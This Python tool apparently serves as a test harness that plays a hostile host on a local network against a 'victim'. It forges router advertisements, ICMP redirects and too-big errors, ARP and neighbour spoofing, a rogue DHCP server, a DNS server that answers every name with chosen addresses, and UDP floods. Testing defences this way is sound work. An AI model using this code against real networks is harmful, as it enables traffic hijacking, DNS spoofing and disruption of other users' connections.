"""The hostile neighbour on a link: it sends whatever another host on the link can send.

    neighbour.py DEVICE MAC VERB [NAME=VALUE]... [+ VERB [NAME=VALUE]...]...
                                                      MAC is the victim's; DEVICE the neighbour's own

    ra          a router advertisement: lifetime=SECONDS (0), prefix=PREFIX on-link, slaac=PREFIX on-link with addresses,
                valid=SECONDS (1800), route=PREFIX (RFC 4191), rdnss=ADDRESS, mtu=BYTES, preference=high, source=fe80::...
    redirect    for=ADDRESS target=ADDRESS source=ROUTER to=VICTIM: packets to `for` should go over `target`
    too-big     mtu=BYTES source=ROUTER from=VICTIM for=ADDRESS sport=N dport=N: an ICMP error about a datagram of the victim
    claim       address=ADDRESS: claims this address (gratuitous ARP, neighbour advertisement)
    udp, echo   from=ADDRESS to=ADDRESS sport=N dport=N
    dhcp        offers address=ADDRESS/LENGTH router=ADDRESS route=PREFIX,ROUTER (option 121) dns=ADDRESS mtu=BYTES
                lease=SECONDS (3600) server=ADDRESS until it is killed; NAME=VALUE lines in file=FILE replace these values
    repeat      followed by VERB [NAME=VALUE]... [+ VERB ...]...: sends these packets as fast as it can, until it is killed
    answer      answers ARP and neighbour solicitations for all addresses of prefix=PREFIX, until it is killed
    names       a name server that resolves every name to address=ADDRESS[,ADDRESS], or to those in file=FILE, until it is killed

    neighbour.py DEVICE - programs ADDRESS...   sends what programs of a host send to each address: an echo request, datagrams
                to ports 7777 and 53, connections to 80, 53 and 853; once as routed and once bound to DEVICE
    neighbour.py DEVICE - flood ADDRESS...      sends datagrams to port 7777 of each, bound to DEVICE, until it is killed

Repeat NAME=VALUE for several values. Other programs import the functions that make packets.
"""

import ipaddress
import os
import socket
import struct
import sys

ALL_NODES = "ff02::1"
ROUTER = "fe80::bad"
LEN, PREFIX_ON_LINK, PREFIX_AUTONOMOUS = 8, 0x80, 0x40
UDP, ICMP, ICMPV6 = 17, 1, 58


def packed(text):
    return ipaddress.ip_address(text).packed


def is_v4(text):
    return ipaddress.ip_address(text).version == 4


def mac_bytes(text):
    return bytes.fromhex(text.replace(":", ""))


def mac_of(device):
    with open(f"/sys/class/net/{device}/address") as file:
        return mac_bytes(file.read().strip())


def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def ip(source, to, protocol, payload, hops=64, fragment=0):
    """An IP packet. Use `summed` first for a payload whose checksum covers a pseudo-header."""
    if is_v4(to):
        head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), 0, fragment, hops, protocol, 0, packed(source), packed(to))
        return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + payload
    return struct.pack("!IHBB", 6 << 28, len(payload), protocol, hops) + packed(source) + packed(to) + payload


def summed(source, to, protocol, payload, at):
    """Returns the payload with its checksum, which covers the pseudo-header, at this offset."""
    pseudo = packed(source) + packed(to) + struct.pack("!II", len(payload), protocol)
    return payload[:at] + struct.pack("!H", checksum(pseudo + payload) or 0xFFFF) + payload[at + 2 :]


def udp(source, to, sport, dport, text=b"neighbour", hops=64):
    payload = struct.pack("!HHHH", sport, dport, 8 + len(text), 0) + text
    return ip(source, to, UDP, summed(source, to, UDP, payload, 6), hops)


def icmpv6(source, to, payload, hops=255):
    return ip(source, to, ICMPV6, summed(source, to, ICMPV6, payload, 2), hops)


def icmp(source, to, payload):
    return ip(source, to, ICMP, payload[:2] + struct.pack("!H", checksum(payload)) + payload[4:])


def echo(source, to):
    if is_v4(to):
        return icmp(source, to, struct.pack("!BBHHH", 8, 0, 0, 66, 1) + b"neighbour")
    return icmpv6(source, to, struct.pack("!BBHHH", 128, 0, 0, 66, 1) + b"neighbour", 64)


def advertisement(mac, source=ROUTER, lifetime=0, prefix=(), slaac=(), valid=1800, route=(), rdnss=(), mtu=None, preference=None):
    """A router advertisement: RFC 4861 section 4.2, with the options of RFC 4191 and RFC 8106."""
    flags = 0x08 if preference == "high" else 0
    body = struct.pack("!BBHBBHII", 134, 0, 0, 64, flags, lifetime, 0, 0) + struct.pack("!BB6s", 1, 1, mac)
    if mtu is not None:
        body += struct.pack("!BBHI", 5, 1, 0, mtu)
    for text, kind in [(text, PREFIX_ON_LINK) for text in prefix] + [(text, PREFIX_ON_LINK | PREFIX_AUTONOMOUS) for text in slaac]:
        net = ipaddress.ip_network(text)
        body += struct.pack("!BBBBIII16s", 3, 4, net.prefixlen, kind, valid, valid, 0, net.network_address.packed)
    for text in route:
        net = ipaddress.ip_network(text)
        body += struct.pack("!BBBBI16s", 24, 3, net.prefixlen, 0x08, valid, net.network_address.packed)
    if rdnss:
        body += struct.pack("!BBHI", 25, 1 + 2 * len(rdnss), 0, valid) + b"".join(packed(address) for address in rdnss)
    return icmpv6(source, ALL_NODES, body)


def redirect(mac, source, to, destination, target):
    quoted = udp(to, destination, 7777, 7777)
    if is_v4(to):
        return icmp(source, to, struct.pack("!BBH4s", 5, 1, 0, packed(target)) + quoted[:28])
    body = struct.pack("!BBHI16s16s", 137, 0, 0, 0, packed(target), packed(destination)) + struct.pack("!BB6s", 2, 1, mac)
    quoted = quoted[: len(quoted) // 8 * 8]
    return icmpv6(source, to, body + struct.pack("!BBHI", 4, 1 + len(quoted) // 8, 0, 0) + quoted)


def too_big(source, victim, destination, sport, dport, mtu):
    quoted = udp(victim, destination, sport, dport)
    if is_v4(victim):
        return icmp(source, victim, struct.pack("!BBHHH", 3, 4, 0, 0, mtu & 0xFFFF) + quoted[:28])
    return icmpv6(source, victim, struct.pack("!BBHI", 2, 0, 0, mtu) + quoted)


def frame(mac, own, packet):
    """An Ethernet frame with the packet. A packet to a multicast group goes to the group's MAC address."""
    if packet[0] >> 4 == 4:
        kind, to = 0x0800, packet[16:20]
        mac = b"\xff" * 6 if to == b"\xff" * 4 else mac
    else:
        kind, to = 0x86DD, packet[24:40]
        mac = b"\x33\x33" + to[-4:] if to[0] == 0xFF else mac
    return mac + own + struct.pack("!H", kind) + packet


def claim(mac, own, address):
    if is_v4(address):
        arp = struct.pack("!HHBBH6s4s6s4s", 1, 0x0800, 6, 4, 2, own, packed(address), mac, packed(address))
        return mac + own + struct.pack("!H", 0x0806) + arp
    return frame(mac, own, neighbour_advertisement(own, address, ALL_NODES, 0x20000000))


def neighbour_advertisement(own, address, to, flags):
    body = struct.pack("!BBHI16s", 136, 0, 0, flags, packed(address)) + struct.pack("!BB6s", 2, 1, own)
    return icmpv6(address, to, body)


def answer(own, received, networks):
    """Answers an ARP request or neighbour solicitation for an address in these networks, but not for the asker's own;
    `None` for other frames."""
    kind = received[12:14]
    if kind == b"\x08\x06" and received[20:22] == b"\0\1":
        asker, source, wanted = received[22:28], received[28:32], received[38:42]
        if source == wanted or not any(ipaddress.ip_address(wanted) in net for net in networks):
            return None
        return asker + own + kind + struct.pack("!HHBBH6s4s6s4s", 1, 0x0800, 6, 4, 2, own, wanted, asker, source)
    if kind == b"\x86\xdd" and received[20] == ICMPV6 and received[54] == 135:
        source, wanted = ipaddress.ip_address(received[22:38]), ipaddress.ip_address(received[62:78])
        if source.is_unspecified or not any(wanted in net for net in networks):
            return None
        return frame(received[6:12], own, neighbour_advertisement(own, str(wanted), str(source), 0x60000000))
    return None


# RFC 2131, RFC 3442
MAGIC = b"\x63\x82\x53\x63"
DISCOVER, OFFER, REQUEST, ACK = 1, 2, 3, 5


def dhcp_answer(own, received, address, server, router=(), route=(), dns=(), mtu=None, lease=3600):
    """Answers a DHCP client's message; `None` for other frames."""
    if received[12:14] != b"\x08\x00" or received[23] != UDP or received[36:38] != b"\0\x43":
        return None
    request = received[42:]
    options, at = {}, 240
    while at + 1 < len(request) and request[at] != 255:
        if request[at] == 0:
            at += 1
            continue
        options[request[at]] = request[at + 2 : at + 2 + request[at + 1]]
        at += 2 + request[at + 1]
    kind = {DISCOVER: OFFER, REQUEST: ACK}.get(options.get(53, b"\0")[0])
    if request[:1] != b"\1" or kind is None:
        return None
    offered = ipaddress.ip_interface(address)
    said = [(53, bytes([kind])), (54, packed(server)), (51, struct.pack("!I", lease)), (1, offered.netmask.packed)]
    if router:
        said.append((3, b"".join(packed(one) for one in router)))
    if dns:
        said.append((6, b"".join(packed(one) for one in dns)))
    if mtu is not None:
        said.append((26, struct.pack("!H", mtu)))
    if route:
        said.append((121, b"".join(classless(*one.split(",")) for one in route)))
    body = struct.pack("!BBBBIHH", 2, 1, 6, 0, int.from_bytes(request[4:8], "big"), 0, 0)
    body += b"\0" * 4 + offered.ip.packed + packed(server) + b"\0" * 4 + request[28:44] + b"\0" * 192 + MAGIC
    body += b"".join(bytes([code, len(value)]) + value for code, value in said) + b"\xff"
    return frame(received[6:12], own, udp(server, "255.255.255.255", 67, 68, body))


def classless(prefix, router):
    net = ipaddress.ip_network(prefix)
    return bytes([net.prefixlen]) + net.network_address.packed[: (net.prefixlen + 7) // 8] + packed(router)


def name_answer(question, addresses):
    end = 12
    while question[end]:
        end += 1 + question[end]
    (kind,) = struct.unpack("!H", question[end + 1 : end + 3])
    found = [packed(address) for address in addresses if kind == (1 if is_v4(address) else 28)]
    head = question[:2] + struct.pack("!HHHHH", 0x8180, 1, len(found), 0, 0)
    records = [struct.pack("!HHHIH", 0xC00C, kind, 1, 1, len(address)) + address for address in found]
    return head + question[12 : end + 5] + b"".join(records)


def listening(device):
    """A socket that receives and sends frames on the device."""
    raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
    raw.bind((device, 0))
    return raw


def frames(raw):
    """Yields received frames, but not sent ones."""
    while True:
        received, address = raw.recvfrom(65536)
        if address[2] != socket.PACKET_OUTGOING and len(received) >= 42:
            yield received


SEVERAL = {"prefix", "slaac", "route", "rdnss", "router", "dns"}
NUMBERS = {"lifetime", "valid", "mtu", "lease", "sport", "dport"}


def options(words):
    found = {}
    for word in words:
        name, value = word.split("=", 1)
        if name in SEVERAL:
            found.setdefault(name, []).append(value)
        else:
            found[name] = int(value) if name in NUMBERS else value
    return found


def programs(device, addresses):
    """Sends without waiting for replies. A packet that the kernel refuses or cannot route counts as dropped."""
    for address in addresses:
        family, kind = (socket.AF_INET, ICMP) if is_v4(address) else (socket.AF_INET6, ICMPV6)
        for bound in (False, True):
            for type_, protocol, port, text in (
                (socket.SOCK_DGRAM, UDP, 7777, b"a program"),
                (socket.SOCK_DGRAM, UDP, 53, struct.pack("!6H", 7, 256, 1, 0, 0, 0) + b"\6secret\4test\0\0\1\0\1"),
                (socket.SOCK_RAW, kind, 0, struct.pack("!BBHHH", 8, 0, 0xF7FF, 0, 0) if kind == ICMP else bytes([128]) + b"\0" * 7),
                *((socket.SOCK_STREAM, 6, port, b"") for port in (80, 53, 853)),
            ):
                made = socket.socket(family, type_, protocol)
                made.setblocking(False)
                try:
                    if bound:
                        made.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, device.encode())
                    if type_ == socket.SOCK_STREAM:
                        kept.append(made)
                        made.connect((address, port))
                    else:
                        made.sendto(text, (address, port))
                except OSError:
                    pass


def flood(device, addresses):
    made = {4: socket.socket(socket.AF_INET, socket.SOCK_DGRAM), 6: socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)}
    for one in made.values():
        one.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, device.encode())
    pairs = [(made[4 if is_v4(address) else 6], (address, 7777)) for address in addresses]
    while True:
        for one, to in pairs:
            try:
                one.sendto(b"a program", to)
            except OSError:
                pass


kept = []  # open connections: a closed one would not retransmit


def dhcp(device, file=None, **offered):
    own, raw = mac_of(device), listening(device)
    for received in frames(raw):
        said = dict(offered)
        if file and os.path.exists(file):
            said.update(options(open(file).read().split()))
        made = dhcp_answer(own, received, **said)
        if made:
            raw.send(made)


def answers(device, prefix):
    own, raw = mac_of(device), listening(device)
    networks = [ipaddress.ip_network(text) for text in prefix]
    for received in frames(raw):
        made = answer(own, received, networks)
        if made:
            raw.send(made)


def names(address=None, file=None):
    made = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    made.bind(("::", 53))
    while True:
        question, asker = made.recvfrom(4096)
        addresses = open(file).read().strip() if file else address
        try:
            made.sendto(name_answer(question, addresses.split(",")), asker)
        except OSError:  # an asker that cannot be reached
            pass


def main():
    device, mac, verb, *words = sys.argv[1:]
    if verb == "programs":
        return programs(device, words)
    if verb == "flood":
        return flood(device, words)
    forever = {"dhcp": dhcp, "answer": answers}.get(verb)
    if forever:
        return forever(device, **options(words))
    if verb == "names":
        return names(**options(words))
    own, victim, raw = mac_of(device), mac_bytes(mac), listening(device)
    is_repeated = verb == "repeat"
    words, packets = words if is_repeated else [verb, *words], []
    while words:
        end = words.index("+") if "+" in words else len(words)
        packets.append(single(victim, own, words[0], options(words[1:end])))
        words = words[end + 1 :]
    while True:
        for packet in packets:
            try:
                raw.send(packet)
            except OSError:  # a full queue
                if not is_repeated:
                    raise
        if not is_repeated:
            return


def single(victim, own, verb, said):
    if verb == "claim":
        return claim(victim, own, said["address"])
    if verb == "ra":
        packet = advertisement(own, **said)
    elif verb == "redirect":
        packet = redirect(own, said["source"], said["to"], said["for"], said["target"])
    elif verb == "too-big":
        packet = too_big(said["source"], said["from"], said["for"], said.get("sport", 7777), said.get("dport", 7777), said["mtu"])
    elif verb == "udp":
        packet = udp(said["from"], said["to"], said["sport"], said["dport"])
    elif verb == "echo":
        packet = echo(said["from"], said["to"])
    else:
        sys.exit(f"neighbour.py: there is no verb {verb}")
    return frame(victim, own, packet)


if __name__ == "__main__":
    main()
